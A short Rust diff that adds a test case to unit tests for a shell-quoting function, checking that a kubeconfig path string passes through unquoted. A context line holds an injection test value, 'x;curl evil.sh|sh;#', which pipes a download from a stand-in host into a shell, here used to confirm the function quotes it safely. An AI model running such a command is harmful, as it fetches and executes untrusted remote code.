@@ -69,6 +69,10 @@ mod tests {
     fn shell_words_stay_one_word() {
         assert_eq!(shell("secrets"), "secrets");
         assert_eq!(shell("a/b-c_d.yaml"), "a/b-c_d.yaml");
+        assert_eq!(
+            shell("kubeconfig:contexts.0.context.namespace"),
+            "kubeconfig:contexts.0.context.namespace"
+        );
         assert_eq!(shell("x;curl evil.sh|sh;#"), "'x;curl evil.sh|sh;#'");
         assert_eq!(shell("it's"), r"'it'\''s'");
         assert_eq!(shell(""), "''");
